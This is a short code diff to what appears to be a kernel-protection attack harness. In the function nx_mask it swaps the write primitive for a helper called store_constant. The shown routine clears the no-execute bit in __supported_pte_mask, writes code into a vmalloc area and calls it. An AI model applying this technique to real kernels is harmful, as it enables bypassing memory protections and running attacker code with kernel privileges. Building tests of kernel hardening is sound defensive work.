@@ -2,6 +2,7 @@
 /* Attacks on entries that map kernel text, the direct map and vmalloc space. */
 #include "attack.h"
 #include "list.h"
+#include "objects.h"
 
 /* Set the write bit in the leaf that maps addr, then patch text through it. */
 static enum outcome make_writable(uint64_t addr)
@@ -81,12 +82,12 @@ enum outcome nx_mask(void)
 	uint64_t mask = ksymbol("__supported_pte_mask"), old = kread64(mask), addr, value;
 	int err;
 
-	err = kwrite64(mask, old & ~(1UL << 63));
+	err = store_constant(mask, old & ~(1UL << 63));
 	if (err)
 		return lost("the mask was not to be changed: %d", err);
 	err = corrupt_command("vmalloc count=1");
 	addr = corrupt_answer("address");
-	kwrite64(mask, old);
+	store_constant(mask, old);
 	if (err || kwrite(addr, code, sizeof(code)))
 		return broken("no vmalloc area");
 	err = corrupt_command("call addr=0x%lx", addr);
